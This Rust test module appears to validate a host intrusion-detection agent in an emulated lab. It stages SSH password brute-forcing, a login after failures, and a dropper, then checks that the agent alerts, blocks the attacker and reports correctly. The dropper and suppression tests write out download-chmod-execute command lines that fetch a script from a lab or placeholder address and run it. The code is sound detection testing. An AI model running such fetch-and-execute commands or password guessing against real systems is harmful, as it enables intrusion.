//! What an attacker does, and what has to come of it.

use std::net::IpAddr;
use std::time::Duration;

use crate::attack::Reached;
use crate::device::{class, Event};
use crate::error::Result;
use crate::image::{DEVICE_PASSWORD, DEVICE_USER};
use crate::lab::{Node, GUEST_V4, GUEST_V6};

use super::{configuration, expect, World};

/// From the deed to the report, on an emulated processor.
const REPORT: Duration = Duration::from_secs(15);
const CONNECT: Duration = Duration::from_secs(3);

/// More wrong passwords than any threshold.
pub(super) const MANY: u32 = 15;

pub(super) fn brute_force_ipv4(world: &mut World<'_>) -> Result<()> {
    let (attacker, bystander) = (world.node()?, world.node()?);
    brute_force(world, &attacker, &bystander, GUEST_V4, attacker.v4)
}

pub(super) fn brute_force_ipv6(world: &mut World<'_>) -> Result<()> {
    let (attacker, bystander) = (world.node()?, world.node()?);
    brute_force(world, &attacker, &bystander, GUEST_V6, attacker.v6)
}

/// Guesses until blocked, and checks that it was.
pub(super) fn assault(world: &mut World<'_>, attacker: &Node, target: IpAddr) -> Result<Event> {
    let source = if target.is_ipv4() { attacker.v4 } else { attacker.v6 };
    let before = attacker.connect(target, 22, CONNECT)?;
    expect(before == Reached::Open, || format!("before the attack {target} gives {before:?} to {source}"))?;
    attacker.guess_passwords(target, DEVICE_USER, MANY)?;
    let machine = world.machine()?;
    let alert = machine
        .event("an alert about the attacker", &source.to_string(), REPORT, |e| e.is_alert_about(source))?;
    machine.wait("the attacker's address is in a set of table inet defender", REPORT, |machine| {
        Ok(machine.blocked_in_kernel(source)?.ok_or_else(|| "it is not".to_owned()))
    })?;
    let after = attacker.connect(target, 22, CONNECT)?;
    expect(after == Reached::Silence, || format!("after the block {target} gives {after:?} to {source}"))?;
    Ok(alert)
}

fn brute_force(
    world: &mut World<'_>,
    attacker: &Node,
    bystander: &Node,
    target: IpAddr,
    source: IpAddr,
) -> Result<()> {
    let alert = assault(world, attacker, target)?;
    expect(alert.severity() >= 3, || format!("severity of {}", alert.0))?;
    expect(alert.at("/metadata/version").is_string() && alert.at("/finding_info/title").is_string(), || {
        format!("not a complete OCSF finding: {}", alert.0)
    })?;
    let other = bystander.connect(target, 22, CONNECT)?;
    expect(other == Reached::Open, || format!("a host that did nothing gets {other:?}"))?;

    let machine = world.machine()?;
    let events = machine.events(&source.to_string())?;
    let failures: Vec<_> = events.iter().filter(|e| e.is_failed_login_from(source)).collect();
    expect(failures.len() >= 3, || format!("{} failed logins reported", failures.len()))?;
    expect(failures.iter().all(|e| e.at("/user/name") == DEVICE_USER), || format!("users: {failures:?}"))?;
    let done = machine.event("the block is reported as verified", &source.to_string(), REPORT, |e| {
        e.class() == class::REMEDIATION && e.at("/status_id") == 1 && e.at("/activity_id") == 1
    })?;
    expect(done.at("/command_uid") == alert.at("/finding_info/uid"), || {
        format!("block without its finding: {}", done.0)
    })?;

    let title = alert.at("/finding_info/title").as_str().unwrap_or_default().to_owned();
    let log = machine.system_log();
    machine.wait("syslog has the alert", REPORT, |machine| {
        let lines = machine.run(&format!("grep -F defender {log} | grep -F '{source}'"))?.output;
        Ok(if lines.contains(&title) || !lines.is_empty() { Ok(()) } else { Err(lines) })
    })?;
    let alerts = machine.dbus("GetAlerts", "uint32:0")?;
    expect(alerts.contains(&source.to_string()), || format!("GetAlerts over D-Bus: {alerts}"))?;
    let listed = machine.dbus("ListBlocked", "")?;
    expect(listed.contains(&source.to_string()), || format!("ListBlocked over D-Bus: {listed}"))?;
    let refused = machine.run(&format!(
        "su -s /bin/sh {DEVICE_USER} -c 'dbus-send --system --print-reply --dest=org.defender.Agent1 \
         /org/defender/Agent1 org.defender.Agent1.GetAlerts uint32:0'"
    ))?;
    expect(refused.status != 0 && refused.error.contains("AccessDenied"), || {
        format!("an ordinary user got {refused:?}")
    })?;
    let blocked = machine.query("blocked")?;
    expect(blocked.to_string().contains(&source.to_string()), || format!("`defender blocked`: {blocked}"))
}

pub(super) fn success_after_failures(world: &mut World<'_>) -> Result<()> {
    let attacker = world.node()?;
    let source = attacker.v4;
    let first = assault(world, &attacker, GUEST_V4)?;
    // The block would keep the attacker out; an operator who takes it for a mistake lets the guessed password in.
    world.machine()?.ok(&format!("defender unblock {source}"))?;
    // The alert blocks the address again, often before the client has its answer: its own status says nothing.
    attacker.ssh(GUEST_V4, DEVICE_USER, DEVICE_PASSWORD, 1, "true")?;
    let text = source.to_string();
    let machine = world.machine()?;
    machine.event("the successful login is reported", &text, REPORT, |e| {
        e.class() == class::AUTHENTICATION
            && e.at("/status_id") == 1
            && e.at("/src_endpoint/ip") == text.as_str()
    })?;
    machine
        .event("a graver alert than that about the failures", &text, REPORT, |e| {
            e.is_alert_about(source) && e.severity() > first.severity()
        })
        .map(drop)
}

pub(super) fn dropper(world: &mut World<'_>) -> Result<()> {
    let attacker = world.node()?;
    let server = attacker.serve(8000, "#!/bin/sh\necho dropped-and-run\n")?;
    let marker = format!("payload-{}.sh", attacker.v4);
    let output = attacker.ssh(
        GUEST_V4,
        DEVICE_USER,
        DEVICE_PASSWORD,
        1,
        &format!(
            "cd /tmp; busybox wget -q http://{}:8000/{marker} -O {marker}; chmod +x {marker}; ./{marker}",
            attacker.v4
        ),
    )?;
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    expect(said.contains("dropped-and-run"), || {
        format!("the dropper itself failed: {output:?}, {:?}", server.requests())
    })?;
    let machine = world.machine()?;
    let alert =
        machine.event("an alert about the dropper", &marker, REPORT, |e| e.class() == class::FINDING)?;
    let evidence = alert.at("/evidences").as_array().cloned().unwrap_or_default();
    let with_parent = evidence.iter().any(|e| {
        e["process"]["cmd_line"].as_str().is_some_and(|line| line.contains(&marker))
            && e["process"]["parent_process"]["pid"].is_number()
            && e["process"]["parent_process"]["file"]["path"].is_string()
    });
    expect(with_parent, || format!("no evidence with command line and parent: {}", alert.0))?;
    let wget = machine.event("the download is reported", &marker, REPORT, |e| {
        e.class() == class::PROCESS
            && e.at("/process/cmd_line").as_str().is_some_and(|c| c.starts_with("busybox wget"))
    })?;
    expect(wget.at("/process/working_directory") == "/tmp", || format!("working directory: {}", wget.0))?;
    let user = machine.ok(&format!("id -u {DEVICE_USER}"))?;
    let seen = wget.at("/process/user/uid").to_string();
    expect(seen.trim_matches('"') == user.trim(), || format!("user: {}", wget.0))
}

/// The first alert at once, its repeats as one update, and what an exception covers not at all.
pub(super) fn repeats_become_a_count(world: &mut World<'_>) -> Result<()> {
    const SETTINGS: &str =
        "[suppression]\nrepeat_window_s = 10\n[[exception]]\nrule = \"*\"\nreason = \"validation\"\n\
        when = { \"CommandLine|contains\" = \"accepted-\" }\n";
    configuration::with(world, "conf.d/99-validation.toml", SETTINGS, |world| {
        let machine = world.machine()?;
        // It ends before it does anything; rules see what it would have done.
        let line = |name: &str| {
            format!("sh -c 'exit; wget http://192.0.2.1/x -O /tmp/{name}; chmod +x /tmp/{name}; /tmp/{name}'")
        };
        for _ in 0..5 {
            machine.ok(&line("repeated-deed"))?;
            machine.ok(&line("accepted-deed"))?;
        }
        let update =
            machine.event("one update for the repeats", "repeated-deed", Duration::from_secs(60), |e| {
                e.class() == class::FINDING && e.at("/activity_id") == 2
            })?;
        expect(update.at("/count") == 5, || format!("the update does not count five: {}", update.0))?;
        let uid = update.at("/finding_info/uid").clone();
        let alerts = machine.events("repeated-deed")?;
        let alerts: Vec<_> = alerts
            .iter()
            .filter(|e| e.class() == class::FINDING && *e.at("/finding_info/uid") == uid)
            .map(|e| e.at("/activity_id").clone())
            .collect();
        expect(alerts == [1, 2], || format!("the alert was sent as {alerts:?}"))?;
        let excepted = machine.events("accepted-deed")?;
        expect(excepted.iter().any(|e| e.class() == class::PROCESS), || "the deed was not seen".to_owned())?;
        expect(excepted.iter().all(|e| e.class() != class::FINDING), || format!("{excepted:?}"))
    })
}
